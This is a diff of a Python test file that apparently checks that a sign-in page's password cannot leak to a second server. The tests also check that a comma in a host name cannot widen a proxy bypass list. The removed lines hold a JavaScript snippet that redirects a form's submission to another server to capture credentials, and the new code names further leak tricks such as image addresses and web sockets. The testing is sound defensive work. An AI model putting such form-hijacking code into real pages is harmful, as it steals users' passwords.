@@ -7,10 +7,12 @@ from __future__ import annotations
 
 from collections.abc import Callable, Iterator
 from dataclasses import dataclass
+from types import SimpleNamespace
 
 import pytest
 
 from flows.secrecy.forms import find
+from flows.secrecy.leaving import Leaving, wall
 from tests.conftest import Flows
 from tests.secrecy.sign_in_pages import CONSOLE, sign_in
 from tests.secrecy.stranger import Stranger, Told
@@ -167,10 +169,12 @@ def test_a_page_gets_what_it_needs_of_another_server_and_a_password_is_stopped_a
     tried(flows, place, lambda at: sign_in(head=needed))
     assert b"GET /needed" in place.other.log
     assert find(place.named.log, [SECRET])
-    take = f"f.addEventListener('submit', () => f.action = '{place.other.url('/in')}')"
-    code, said = tried(flows, place, lambda at: sign_in(head=needed, script=take))
-    assert not find(place.other.log, [SECRET]), "it arrived"
-    assert code == 5, said
+    for trick in ("an action changed at submit", "a picture's address", "a web socket"):
+        page = ON_ITS_WAY[trick](place)
+        assert isinstance(page, str)
+        code, said = tried(flows, place, lambda _, page=page: needed + page)
+        assert not find(place.other.log, [SECRET]), "it arrived"
+        assert code == 5, said
 
 
 def test_nothing_else_is_asked_of_another_server(flows: Flows, place: Place) -> None:
@@ -184,3 +188,16 @@ def test_the_same_page_without_a_trick_is_signed_in_to(flows: Flows, place: Plac
     tried(flows, place, lambda at: sign_in())
     assert find(place.named.log, [SECRET])
     assert not find(place.other.log, [SECRET])
+
+
+def test_a_name_with_a_comma_in_it_opens_nothing_else() -> None:
+    """Commas are legal in a host's name, and part the rules of a wall."""
+    asked = SimpleNamespace(url="https://x,.jp/library.js", resource_type="script", method="GET")
+    context = SimpleNamespace(on=lambda *_: None, add_init_script=lambda _: None)
+    named = frozenset(("https://mail.example.jp:443",))
+    leaving = Leaving(context, named, named)  # type: ignore[arg-type]
+    leaving._turned_away(asked)  # type: ignore[arg-type]
+    assert leaving.missed == set()
+    assert wall(named, named)["proxy"]["bypass"].split(",") == [
+        "<-loopback>", "https://mail.example.jp:443", "wss://mail.example.jp:443",
+    ]  # fmt: skip
